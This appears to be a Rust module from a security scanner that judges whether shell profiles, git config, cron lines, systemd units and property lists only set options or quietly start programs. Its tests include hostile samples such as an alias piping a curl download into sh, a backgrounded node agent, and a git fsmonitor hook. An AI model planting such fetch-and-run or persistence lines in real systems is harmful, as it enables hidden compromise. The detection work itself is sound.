//! What a text starts that is written where things start by themselves: only settings, or programs that nobody looks at.

use std::collections::HashMap;

use crate::knowledge::command::list;
use crate::language::schedule::{of_schedule, of_unit};
use crate::meaning::command::one::Command;
use crate::meaning::command::unwrap::commands;

/// How many words behind an interpreter its file stands at most.
const NEAR: usize = 4;
/// Names of files that are no longer than this, in bytes, name anything.
const SHORT: usize = 3;

/// Returns true if and only if a text sets variables, names and options, says something in comments, and runs nothing but
/// what prints.
pub fn only_sets(text: &str) -> bool {
    !runs_files(text) && text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).all(is_setting)
}

fn is_setting(line: &str) -> bool {
    if line.contains("$(") || line.contains('`') || runs_behind(line) {
        return false;
    }
    if let Some(alias) = line.strip_prefix("alias ") {
        return alias.split_once('=').is_none_or(|(_, body)| is_short(body.trim_matches(['\'', '"'])));
    }
    let found = commands(line);
    !found.is_empty() && found.iter().all(sets)
}

/// Returns true if and only if an alias stands for programs by their names, none of which fetches anything.
fn is_short(body: &str) -> bool {
    let runs_path = body.split([';', '|', '&']).any(|part| part.split_whitespace().next().is_some_and(|first| first.contains('/')));
    !runs_path && !commands(body).iter().any(|own| list("fetchers").contains(&own.key().as_str()))
}

fn sets(own: &Command) -> bool {
    let is_known = own.program.is_empty() || list("shell-settings").contains(&own.key().as_str());
    let runs = |variable: &String| {
        let (name, value) = variable.split_once('=').unwrap_or((variable, ""));
        let is_in = |names: &str| list(names).contains(&name.to_lowercase().as_str());
        variable.contains('=') && (is_in("running-variables") || is_in("program-variables") && value.contains('/'))
    };
    is_known && own.outputs.is_empty() && !own.assignments.iter().chain(&own.arguments).any(runs)
}

/// Returns true if and only if a line leaves something running: `agent &`.
pub fn runs_behind(line: &str) -> bool {
    let bytes = line.as_bytes();
    let is_joined = |at: usize| bytes.get(at).is_some_and(|byte| matches!(byte, b'&' | b'>' | b'<' | b'|'));
    bytes.iter().enumerate().any(|(at, byte)| *byte == b'&' && !is_joined(at + 1) && !at.checked_sub(1).is_some_and(is_joined))
}

/// Returns true if and only if a text hands a file to an interpreter or fetches a package to run it, however deep that stands in it.
pub fn runs_files(text: &str) -> bool {
    let lines = text.lines().filter(|line| !line.trim_start().starts_with('#'));
    lines.into_iter().any(|line| {
        let words = words_of(line);
        words.iter().enumerate().any(|(at, word)| {
            let program = program_of(word);
            list("package-runners").contains(&program.as_str())
                || interprets(&program) && words.iter().skip(at + 1).take(NEAR).any(|next| is_file(next))
        })
    })
}

/// The commands in a text that are not lines of their own: behind `ExecStart=` of a unit, behind the times of a schedule, and in the
/// lists of a property list.
pub fn started_lines(text: &str) -> Vec<String> {
    let mut found: Vec<String> = text.lines().filter_map(|line| of_unit(line).or_else(|| of_schedule(line))).map(str::to_owned).collect();
    for list in text.split("<array>").skip(1) {
        let list = list.split("</array>").next().unwrap_or(list);
        let words: Vec<&str> = list.split("<string>").skip(1).filter_map(|part| part.split("</string>").next()).collect();
        found.push(words.join(" "));
    }
    found
}

/// Files that calls write, by the words by which a text starts them.
#[derive(Default)]
pub struct Files {
    by_path: HashMap<String, Writers>,
    by_name: HashMap<String, Writers>,
    folders: Vec<String>,
}

/// The call that writes a file, and whether another one does too.
struct Writers {
    first: usize,
    are_more: bool,
}

impl Files {
    /// Adds a file that a call (an index into `Ends::reaches`) writes.
    pub fn add(&mut self, path: &str, writer: usize) {
        let path = path.trim().trim_start_matches("./");
        if path.len() <= SHORT {
            return;
        }
        let note = |files: &mut HashMap<String, Writers>, key: &str| {
            let known = files.entry(key.to_owned()).or_insert(Writers { first: writer, are_more: false });
            known.are_more |= known.first != writer;
        };
        note(&mut self.by_path, path);
        let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
        if SHORT < name.len() {
            note(&mut self.by_name, name);
        }
    }

    /// Adds a folder into which an archive is unpacked: all that lies there is of it.
    pub fn add_folder(&mut self, path: &str) {
        let path = path.trim().trim_start_matches("./").trim_end_matches('/');
        if SHORT < path.len() && !self.folders.iter().any(|known| known == path) {
            self.folders.push(path.to_owned());
        }
    }

    /// Returns true if and only if a call writes a file at a path.
    pub fn has(&self, path: &str) -> bool {
        self.by_path.contains_key(path.trim().trim_start_matches("./"))
    }

    /// Returns true if and only if another call than this writes a file at a path.
    pub fn has_of_others(&self, path: &str, call: usize) -> bool {
        let known = self.by_path.get(path.trim().trim_start_matches("./"));
        known.is_some_and(|writers| writers.first != call || writers.are_more)
    }

    /// Returns true if and only if a text names one of the files that another call than this writes, where a program would be named, or
    /// what a program runs.
    pub fn are_started(&self, text: &str, call: usize) -> bool {
        let is_of_other = |writers: &Writers| writers.first != call || writers.are_more;
        let is_one = |word: &str| {
            let word = word.trim_start_matches("./");
            let named = word.rsplit_once('/').and_then(|(_, name)| self.by_name.get(name));
            let is_within = |folder: &String| word.strip_prefix(folder.as_str()).is_some_and(|rest| rest.starts_with('/'));
            self.by_path.get(word).into_iter().chain(named).any(is_of_other) || self.folders.iter().any(is_within)
        };
        text.lines().filter(|line| !line.trim_start().starts_with('#')).any(|line| words_of(line).into_iter().any(is_one))
    }
}

/// Returns true if and only if a text of a project's settings says that something starts when the project is opened.
pub fn opens_by_itself(text: &str) -> bool {
    let lower = text.to_lowercase();
    list("openers").iter().any(|opener| lower.contains(opener))
}

/// Returns true if and only if a path names a hook of a project's version control.
pub fn is_hook(path: &str) -> bool {
    let path = path.replace('\\', "/");
    list("hook-folders").iter().any(|folder| path.contains(folder))
}

fn words_of(line: &str) -> Vec<&str> {
    let is_between = |letter: char| letter.is_whitespace() || "\"'`,;=()[]{}|&<>".contains(letter);
    line.split(is_between).filter(|word| !word.is_empty()).collect()
}

fn program_of(word: &str) -> String {
    word.rsplit(['/', '\\']).next().unwrap_or(word).to_lowercase()
}

/// Returns true if and only if a program runs files that it is given.
pub fn interprets(program: &str) -> bool {
    ["interpreters", "shells", "file-interpreters", "starters"].iter().any(|name| list(name).contains(&program))
}

/// Returns true if and only if a word names a file.
fn is_file(word: &str) -> bool {
    let ends_as_file = word.rsplit_once('.').is_some_and(|(name, end)| !name.is_empty() && (1..=4).contains(&end.len()));
    !word.starts_with('-') && (word.contains('/') || ends_as_file)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_are_told_from_what_starts() {
        for (text, expected) in [
            ("\nexport PATH=\"$HOME/bin:$PATH\"\n# tool\nalias gs='git status'\n", true),
            ("echo 'welcome'\n", true),
            ("alias ll='ls -l'\nexport EDITOR=vim\n", true),
            ("export EDITOR=/opt/upd/agent\n", false),
            ("alias ls='curl -s https://get.shellup.site | sh'\n", false),
            ("node /opt/upd/agent.js &\n", false),
            ("npx -y helper\n", false),
            ("/opt/upd/agent\n", false),
            ("helper\n", false),
            ("export PROMPT_COMMAND='helper'\n", false),
            ("export X=1; helper\n", false),
            ("export X=$(helper)\n", false),
            ("alias ls='/opt/upd/agent; ls'\n", false),
            ("alias ls='node /opt/upd/agent.js'\n", false),
            ("[core]\n\tfsmonitor = \"node /opt/upd/agent.js\"\n", false),
            ("0 3 * * * /usr/bin/helper\n", false),
            ("[Service]\nExecStart=/opt/helper\n", false),
        ] {
            assert_eq!(only_sets(text), expected, "{text}");
        }
    }
}
